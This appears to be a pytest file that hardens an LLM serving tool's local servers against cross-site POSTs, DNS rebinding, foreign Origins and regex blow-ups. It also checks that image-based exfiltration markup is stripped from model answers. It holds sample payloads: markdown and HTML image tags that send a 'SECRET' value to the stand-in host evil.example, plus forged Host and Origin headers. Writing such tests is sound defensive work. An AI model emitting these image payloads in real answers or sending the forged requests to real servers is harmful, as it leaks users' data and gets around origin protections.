"""Hardening of the two loopback servers, with real HTTP requests on 127.0.0.1:

- `ladder serve` refuses bodies that are not application/json (a web page can POST text/plain
  cross-site without a preflight) and requests whose Host or Origin is not the bound address;
- `ladder ui` refuses a DNS-rebound Host and a foreign Origin;
- every built-in redaction pattern finishes 1 MB adversarial inputs in well under a second;
- answers lose every image a markdown renderer or browser would fetch.

The model is the scripted test model: these tests are about the server, not generation."""

from __future__ import annotations

import http.client
import json
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from helpers import free_port

from llm_ladder.serving.app import create_app
from llm_ladder.serving.build import build_served
from llm_ladder.serving.guard import NAMED_PATTERNS
from llm_ladder.store import Store
from llm_ladder.task import ServeConfig, load_task
from llm_ladder.testing import ScriptedModel, write_task

BODY = json.dumps({"messages": [{"role": "user", "content": "hello"}]}).encode()


def request(port: int, method: str, path: str, body: bytes | None = None,
            headers: dict[str, str] | None = None) -> tuple[int, bytes]:
    """A raw HTTP request (http.client sends exactly the Host header we give it)."""
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        conn.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
        for k, v in (headers or {}).items():
            conn.putheader(k, v)
        if body is not None:
            conn.putheader("Content-Length", str(len(body)))
        conn.endheaders(body)
        r = conn.getresponse()
        return r.status, r.read()
    finally:
        conn.close()


@contextmanager
def serving(app) -> Iterator[int]:
    import time

    import uvicorn

    port = free_port()
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port,
                                           log_level="warning"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.time() + 30
    while not server.started:
        assert time.time() < deadline and thread.is_alive(), "the server did not start"
        time.sleep(0.02)
    try:
        yield port
    finally:
        server.should_exit = True
        thread.join(30)


@pytest.fixture(scope="module")
def task_dir(tmp_path_factory) -> Path:
    rows = [{"id": f"r{i}", "input": f"question {i}", "output": "yes"} for i in range(6)]
    return write_task(tmp_path_factory.mktemp("serve-hard") / "t", rows, answers=["yes"])


@pytest.fixture(scope="module")
def app_port(task_dir: Path, tmp_path_factory) -> Iterator[tuple[int, Store]]:
    task = load_task(task_dir)
    served = build_served(task, "zero-shot", model=ScriptedModel(answers=["yes"]))
    store = Store(tmp_path_factory.mktemp("serve-log") / "runs.db")
    with serving(create_app(served, ServeConfig(max_output_tokens=8), store)) as port:
        yield port, store


def test_serve_refuses_a_cross_site_text_plain_post(app_port) -> None:
    port, store = app_port
    before = len(store.request_logs())
    # what a web page's fetch(..., {mode: "no-cors", body}) sends: no preflight for text/plain
    for ctype in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; b=x",
                  None):
        headers = {"Host": f"127.0.0.1:{port}", "Origin": "https://evil.example"}
        if ctype:
            headers["Content-Type"] = ctype
        status, _ = request(port, "POST", "/v1/chat/completions", BODY, headers)
        assert status == 403, (ctype, status)
        del headers["Origin"]  # even with no Origin, only JSON bodies are parsed
        status, body = request(port, "POST", "/v1/chat/completions", BODY, headers)
        assert status == 415, (ctype, status, body)
    assert len(store.request_logs()) == before  # nothing spent, nothing planted
    ok, body = request(port, "POST", "/v1/chat/completions", BODY,
                       {"Host": f"127.0.0.1:{port}", "Content-Type": "application/json; "
                        "charset=utf-8", "Origin": f"http://127.0.0.1:{port}"})
    assert ok == 200 and json.loads(body)["choices"][0]["message"]["content"] == "yes"
    assert len(store.request_logs()) == before + 1


@pytest.mark.parametrize("host", ["evil.example", "evil.example:{port}", "127.0.0.1.nip.io",
                                  "localhost.evil.example:{port}", ""])
def test_serve_refuses_a_rebound_host(app_port, host: str) -> None:
    port, _ = app_port
    headers = {"Content-Type": "application/json"}
    if host:
        headers["Host"] = host.format(port=port)
    for method, path, body in (("GET", "/v1/models", None), ("GET", "/health", None),
                               ("POST", "/v1/chat/completions", BODY)):
        try:
            status, _ = request(port, method, path, body, headers)
        except ConnectionResetError:
            # no Host at all is a malformed HTTP/1.1 request: uvicorn's parser answers 400 and
            # closes at once, so with a body still unread the client may see the reset first
            assert not host, (host, path)
            continue
        assert status == (403 if host else 400), (host, path, status)
    for good in (f"127.0.0.1:{port}", f"localhost:{port}", "localhost"):
        assert request(port, "GET", "/v1/models", None, {"Host": good})[0] == 200


@pytest.fixture(scope="module")
def ui_port(task_dir: Path) -> Iterator[int]:
    from llm_ladder.report.server import make_server

    server = make_server(task_dir, "127.0.0.1", 0)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_port
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.parametrize("headers", [
    {"Host": "evil.example"}, {"Host": "evil.example:{port}"}, {},
    {"Host": "127.0.0.1:{port}", "Origin": "http://evil.example"},
    {"Host": "127.0.0.1:{port}", "Origin": "null"}])
def test_ui_refuses_dns_rebinding_and_foreign_origins(ui_port: int, headers) -> None:
    given = {k: v.format(port=ui_port) for k, v in headers.items()}
    status, _ = request(ui_port, "GET", "/", None, given)
    assert status == 403
    ok, body = request(ui_port, "GET", "/", None, {"Host": f"127.0.0.1:{ui_port}"})
    assert ok == 200 and b"<html" in body.lower()


ADVERSARIAL = ["a", "1", "1 ", "1-", "a.", "a@", "a@a", "a@a.", "1.", "+1", "AB12 ", "AB12",
               "A", "a-", "_", "+", "12-", "1 1", "SE12 3456 ", "@a", "a.b@", "1.1", "-"]
TIMING = """
import json, sys, time
from llm_ladder.serving.guard import Redactor
r = Redactor([sys.argv[1]])
for unit in json.loads(sys.argv[2]):
    text = (unit * (1_000_000 // len(unit) + 1))[:1_000_000]
    t = time.perf_counter()
    r.text(text + " x")
    print(json.dumps([unit, time.perf_counter() - t]), flush=True)
"""


@pytest.mark.parametrize("name", sorted(NAMED_PATTERNS))
def test_redaction_is_linear_on_1mb_adversarial_input(name: str) -> None:
    """Each built-in pattern on 1 MB of every repeated unit that could make a backtracking
    regex quadratic; a subprocess, so a quadratic pattern fails the test instead of hanging."""
    try:
        proc = subprocess.run([sys.executable, "-c", TIMING, name, json.dumps(ADVERSARIAL)],
                              capture_output=True, text=True, timeout=60)
        out = proc.stdout
    except subprocess.TimeoutExpired as e:
        out = (e.stdout or b"").decode() if isinstance(e.stdout, bytes) else (e.stdout or "")
        done = [json.loads(x)[0] for x in out.splitlines()]
        pytest.fail(f"{name}: still running after 60 s; finished {done}")
    times = dict(json.loads(x) for x in out.splitlines())
    assert set(times) == set(ADVERSARIAL), proc.stderr[-2000:]
    slow = {u: round(t, 2) for u, t in times.items() if t > 0.5}
    assert not slow, f"{name}: {slow}"


def test_redaction_still_finds_what_it_should() -> None:
    from llm_ladder.serving.guard import Redactor

    r = Redactor(["email"])
    assert r.text("mail a.b+c@ex-ample.co.uk, or x@y.se.") == \
        "mail [REDACTED:email], or [REDACTED:email]."
    assert r.text("not@mail and @x.se") == "not@mail and @x.se"


@pytest.mark.parametrize("answer", [
    "See ![a [b] c](https://evil.example/x?d=SECRET) now.",
    "Logo: ![logo]\n\n[logo]: https://evil.example/l?d=SECRET",
    "Logo: ![logo][]\n\n[logo]: <https://evil.example/l?d=SECRET> \"t\"",
    "![x](<https://evil.example/a b?d=SECRET>)",
    "![x]( https://evil.example/s?d=SECRET 'title' )",
    'Hi <img src="https://evil.example/i?d=SECRET"> there',
    '<svg><image href="https://evil.example/s?d=SECRET"/></svg>',
    '<video poster="https://evil.example/p?d=SECRET"></video>',
    '<div style="background:url(https://evil.example/b?d=SECRET)">x</div>',
    '<picture><source srcset="https://evil.example/p?d=SECRET"></picture>',
    "<IMG SRC=https://evil.example/u?d=SECRET>",
    "- item ![x](https://evil.example/li?d=SECRET)\n- two",
    "> quoted ![x](https://evil.example/q?d=SECRET)",
])
def test_every_image_bypass_is_stripped(answer: str) -> None:
    from llm_ladder.serving.guard import strip_images

    text, removed = strip_images(answer)
    assert removed >= 1 and "SECRET" not in text and "evil.example" not in text, text


def test_answers_without_images_are_unchanged() -> None:
    from llm_ladder.serving.guard import strip_images

    for answer in ["A plain answer [1].", "A [link](https://example.com) and `<img src=x>`.",
                   "```html\n<img src=x>\n```", "a < b and c > d", "**bold** _em_ [2][3]"]:
        assert strip_images(answer) == (answer, 0)
